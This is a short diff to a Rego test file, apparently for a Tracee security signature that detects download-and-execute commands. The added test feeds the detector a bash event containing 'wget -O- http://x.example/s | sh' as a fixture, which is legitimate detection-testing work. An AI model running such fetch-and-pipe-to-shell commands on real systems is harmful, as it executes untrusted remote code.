@@ -41,3 +41,8 @@ test_curl_itself if {
 	ev := fx.exec_event("/usr/bin/curl", ["curl", "-c", "cookies.txt", "http://x | sh"])
 	not sig.tracee_match with input as ev
 }
+
+test_repeated_c_option if {
+	ev := fx.exec_event("/bin/bash", ["bash", "-c", "wget -O- http://x.example/s | sh", "-c", "true"])
+	sig.tracee_match.downloader == "wget" with input as ev
+}
